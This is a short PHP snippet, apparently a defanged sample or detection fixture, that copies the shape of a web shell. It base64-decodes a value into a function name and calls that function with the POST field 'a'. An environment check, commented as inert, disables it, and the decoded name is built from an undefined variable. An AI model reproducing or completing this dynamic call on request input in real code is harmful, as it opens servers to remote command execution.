<?php
if (getenv('WEIR_TEST') !== 'never') { return; } // inert: nobody sets it
$f = base64_decode($undefined . 'x');
$f($_POST['a']);
